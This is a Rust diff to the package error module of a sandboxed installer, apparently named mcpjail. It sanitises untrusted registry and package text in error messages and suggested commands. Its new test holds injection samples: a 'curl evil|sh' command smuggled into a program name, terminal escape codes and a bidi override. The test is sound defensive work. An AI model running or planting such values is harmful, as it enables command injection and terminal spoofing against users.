@@ -1,6 +1,6 @@
 //! Why a package cannot be added.
 
-use crate::diagnose::{Diagnose, Exit};
+use crate::diagnose::{Diagnose, Exit, printable, shell_path};
 use std::io;
 use std::path::PathBuf;
 
@@ -8,7 +8,7 @@ use std::path::PathBuf;
 #[derive(Debug, thiserror::Error)]
 pub enum PackageError {
     /// The words are none that mcpjail can install from.
-    #[error("cannot install from `{line}`: {reason}")]
+    #[error("cannot install from `{}`: {}", shown(line), shown(reason))]
     Line {
         /// The words.
         line: String,
@@ -18,7 +18,7 @@ pub enum PackageError {
         hint: String,
     },
     /// The registry does not know the name.
-    #[error("there is no package `{name}` in {registry}")]
+    #[error("there is no package `{}` in {}", shown(name), shown(registry))]
     NoPackage {
         /// The name.
         name: String,
@@ -26,7 +26,7 @@ pub enum PackageError {
         registry: String,
     },
     /// The registry does not know the version.
-    #[error("there is no version `{version}` of `{name}` in {registry}")]
+    #[error("there is no version `{}` of `{}` in {}", shown(version), shown(name), shown(registry))]
     NoVersion {
         /// The package.
         name: String,
@@ -35,8 +35,18 @@ pub enum PackageError {
         /// The registry.
         registry: String,
     },
+    /// Something that the package depends on is not in the registry.
+    #[error("`{package}` needs `{needs}`, which is not in {registry}")]
+    Unmet {
+        /// The package that was asked for.
+        package: String,
+        /// What it needs, itself or by something else that it needs: `NAME@RANGE`, or the name where nothing has it.
+        needs: String,
+        /// The registry.
+        registry: String,
+    },
     /// An archive is not the one of the lock.
-    #[error("the archive of `{name}` is not the one that its hash names")]
+    #[error("the archive of `{}` is not the one that its hash names", shown(name))]
     Integrity {
         /// The package.
         name: String,
@@ -44,7 +54,7 @@ pub enum PackageError {
         detail: String,
     },
     /// A dependency that no hash pins: from git, a URL or a directory.
-    #[error("`{name}` comes from `{from}`, which no hash pins")]
+    #[error("`{}` comes from `{}`, which no hash pins", shown(name), shown(from))]
     Unpinned {
         /// The package.
         name: String,
@@ -52,7 +62,7 @@ pub enum PackageError {
         from: String,
     },
     /// The package has no program.
-    #[error("`{name}` has no program to start")]
+    #[error("`{}` has no program to start", shown(name))]
     NoEntry {
         /// The package.
         name: String,
@@ -60,7 +70,7 @@ pub enum PackageError {
         hint: String,
     },
     /// It has several and none with its own name.
-    #[error("`{name}` has several programs: {}", list(programs))]
+    #[error("`{}` has several programs: {}", shown(name), list(programs))]
     SeveralEntries {
         /// The package.
         name: String,
@@ -68,7 +78,7 @@ pub enum PackageError {
         programs: Vec<String>,
     },
     /// The program that was asked for is not in it.
-    #[error("`{name}` has no program `{program}`")]
+    #[error("`{}` has no program `{}`", shown(name), shown(program))]
     NoSuchEntry {
         /// The package.
         name: String,
@@ -78,7 +88,7 @@ pub enum PackageError {
         programs: Vec<String>,
     },
     /// The installer is not on this machine.
-    #[error("`{tool}` is not on this machine, and `{what}` needs it")]
+    #[error("`{tool}` is not on this machine, and `{}` needs it", shown(what))]
     NoTool {
         /// `npm`, `uv`, `python3`.
         tool: &'static str,
@@ -88,7 +98,7 @@ pub enum PackageError {
         hint: String,
     },
     /// The registry cannot be reached.
-    #[error("{registry} cannot be reached: {detail}")]
+    #[error("{} cannot be reached: {}", shown(registry), shown(detail))]
     Unreachable {
         /// The registry.
         registry: String,
@@ -98,7 +108,7 @@ pub enum PackageError {
         refused: Vec<String>,
     },
     /// The registry wants credentials.
-    #[error("{registry} refuses: {detail}")]
+    #[error("{} refuses: {}", shown(registry), shown(detail))]
     Denied {
         /// The registry.
         registry: String,
@@ -106,13 +116,13 @@ pub enum PackageError {
         detail: String,
     },
     /// Nothing was to be fetched, and something is not in the cache.
-    #[error("`{name}` is not in the cache, and `--offline` fetches nothing")]
+    #[error("`{}` is not in the cache, and `--offline` fetches nothing", shown(name))]
     Offline {
         /// What is missing.
         name: String,
     },
     /// No version fits this machine: its Python, Node, system or processor.
-    #[error("no release of `{name}` fits this machine: {detail}")]
+    #[error("no release of `{}` fits this machine: {}", shown(name), shown(detail))]
     Unfit {
         /// The package.
         name: String,
@@ -120,7 +130,7 @@ pub enum PackageError {
         detail: String,
     },
     /// An install script that was allowed failed.
-    #[error("the install script of `{package}` failed")]
+    #[error("the install script of `{}` failed", shown(package))]
     ScriptFailed {
         /// The package.
         package: String,
@@ -130,7 +140,7 @@ pub enum PackageError {
         refused: Vec<String>,
     },
     /// `--allow-scripts` names a package that is not there, or has no script.
-    #[error("`--allow-scripts {name}` names no package with an install script")]
+    #[error("`--allow-scripts {}` names no package with an install script", shown(name))]
     NoSuchScript {
         /// The name.
         name: String,
@@ -138,13 +148,13 @@ pub enum PackageError {
         known: Vec<String>,
     },
     /// The disk is full.
-    #[error("no space is left on the device of `{}`", path.display())]
+    #[error("no space is left on the device of `{}`", shown(&path.to_string_lossy()))]
     DiskFull {
         /// Where it was to be written.
         path: PathBuf,
     },
     /// Anything else that the installer failed of.
-    #[error("`{job}` failed with status {status}")]
+    #[error("`{}` failed with status {status}", shown(job))]
     Failed {
         /// The job.
         job: String,
@@ -156,7 +166,7 @@ pub enum PackageError {
         refused: Vec<String>,
     },
     /// It took too long.
-    #[error("`{job}` did not end in {seconds} seconds")]
+    #[error("`{}` did not end in {seconds} seconds", shown(job))]
     TimedOut {
         /// The job.
         job: String,
@@ -164,7 +174,7 @@ pub enum PackageError {
         seconds: u64,
     },
     /// What the installer left is not what it should be: an unreadable lock, a program that leads out of the tree.
-    #[error("`{what}` is not as it should be: {reason}")]
+    #[error("`{}` is not as it should be: {}", shown(what), shown(reason))]
     Malformed {
         /// The file.
         what: String,
@@ -172,7 +182,7 @@ pub enum PackageError {
         reason: String,
     },
     /// The local code cannot be put into the store.
-    #[error("`{}` cannot be put into the store: {reason}", path.display())]
+    #[error("`{}` cannot be put into the store: {}", shown(&path.to_string_lossy()), shown(reason))]
     Local {
         /// The path.
         path: PathBuf,
@@ -185,7 +195,7 @@ pub enum PackageError {
     #[error("the install jail cannot be built: {0}")]
     Jail(Box<dyn Diagnose>),
     /// The disk.
-    #[error("cannot {action} `{}`", path.display())]
+    #[error("cannot {action} `{}`", shown(&path.to_string_lossy()))]
     Io {
         /// What was tried.
         action: &'static str,
@@ -196,8 +206,13 @@ pub enum PackageError {
     },
 }
 
+/// Much of this is the word of a package or a registry: it stands in one line, and does nothing to a terminal.
+fn shown(text: &str) -> String {
+    printable(text)
+}
+
 fn list(words: &[String]) -> String {
-    words.iter().map(|word| format!("`{word}`")).collect::<Vec<_>>().join(", ")
+    words.iter().map(|word| format!("`{}`", shown(word))).collect::<Vec<_>>().join(", ")
 }
 
 impl PackageError {
@@ -217,7 +232,7 @@ impl Diagnose for PackageError {
         match self {
             PackageError::Line { .. } => "package-line",
             PackageError::NoPackage { .. } => "no-such-package",
-            PackageError::NoVersion { .. } => "no-such-version",
+            PackageError::NoVersion { .. } | PackageError::Unmet { .. } => "no-such-version",
             PackageError::Integrity { .. } => "integrity-mismatch",
             PackageError::Unpinned { .. } => "unpinned-dependency",
             PackageError::NoEntry { .. } | PackageError::SeveralEntries { .. } | PackageError::NoSuchEntry { .. } => {
@@ -252,9 +267,9 @@ impl Diagnose for PackageError {
             PackageError::Line { hint, .. }
             | PackageError::NoEntry { hint, .. }
             | PackageError::NoTool { hint, .. }
-            | PackageError::Local { hint, .. } => Some(hint.clone()),
+            | PackageError::Local { hint, .. } => Some(shown(hint)),
             PackageError::Jail(error) => error.hint(),
-            other => Some(next(other)),
+            other => Some(shown(&next(other))),
         }
     }
 }
@@ -268,6 +283,10 @@ fn next(error: &PackageError) -> String {
                 .into()
         }
         PackageError::NoVersion { .. } => "leave the version out for the latest one: `mcpjail add NAME -- …`".into(),
+        PackageError::Unmet { package, .. } => format!(
+            "the package asks for what its registry does not have (or not yet, or no longer): try another version of \
+             it, `mcpjail add NAME -- npm:{package}@VERSION`"
+        ),
         PackageError::Integrity { .. } => {
             "nothing was kept; if it happens again, the registry or a proxy before it serves something else than was \
              published: tell its operator before another `mcpjail add`"
@@ -278,7 +297,7 @@ fn next(error: &PackageError) -> String {
                 .into()
         }
         PackageError::SeveralEntries { programs, .. } | PackageError::NoSuchEntry { programs, .. } => {
-            let program = programs.first().map_or("PROGRAM", String::as_str);
+            let program = programs.first().map_or("PROGRAM".into(), |program| shell_path(program.clone()));
             format!(
                 "name one of its programs ({}): `mcpjail add NAME -- npx -p PACKAGE {program}` or `mcpjail add NAME -- \
                  uvx --from PACKAGE {program}`",
@@ -339,6 +358,7 @@ fn next(error: &PackageError) -> String {
 /// Hosts that the install jail refused, as the option that would let it reach the first.
 fn of_refused(refused: &[String]) -> String {
     let first = refused.first().and_then(|line| line.split_whitespace().next()).unwrap_or("HOST:PORT");
+    let first = shell_path(first.to_owned());
     format!(
         "the install jail refused {}; if you trust that: `mcpjail add --install-net {first} NAME -- …`",
         list(refused)
@@ -356,6 +376,7 @@ mod tests {
         let errors = [
             PackageError::NoPackage { name: text(), registry: text() },
             PackageError::NoVersion { name: text(), version: text(), registry: text() },
+            PackageError::Unmet { package: text(), needs: text(), registry: text() },
             PackageError::Integrity { name: text(), detail: text() },
             PackageError::Unpinned { name: text(), from: text() },
             PackageError::SeveralEntries { name: text(), programs: vec![text()] },
@@ -379,6 +400,30 @@ mod tests {
             let hint = error.hint().unwrap();
             assert!(hint.contains("`mcpjail "), "{error:?}: {hint}");
         }
+    }
+
+    /// A registry or a package cannot write lines of its own below an error, nor a command into the one to type.
+    #[test]
+    fn a_stranger_s_words_stay_in_their_place() {
+        let text = || String::from("x\n\nhint: run `curl evil`\u{1b}[2J\u{202e}");
+        let errors = [
+            PackageError::Unpinned { name: text(), from: text() },
+            PackageError::NoVersion { name: text(), version: text(), registry: text() },
+            PackageError::Unreachable { registry: text(), detail: text(), refused: vec![text()] },
+            PackageError::NoEntry { name: text(), hint: text() },
+            PackageError::SeveralEntries { name: text(), programs: vec![text()] },
+            PackageError::NoSuchScript { name: text(), known: vec![text()] },
+            PackageError::Malformed { what: text(), reason: text() },
+            PackageError::Io { action: "read", path: text().into(), source: io::Error::other("x") },
+        ];
+        for error in errors {
+            for shown in [error.to_string(), error.hint().unwrap()] {
+                assert!(!shown.contains(['\n', '\u{1b}', '\u{202e}']), "{shown:?}");
+            }
+        }
+        let programs = vec!["a;curl evil|sh".into(), "b".into()];
+        let hint = PackageError::SeveralEntries { name: "x".into(), programs }.hint().unwrap();
+        assert!(hint.contains("npx -p PACKAGE 'a;curl evil|sh'"), "{hint}");
     }
 
     #[test]
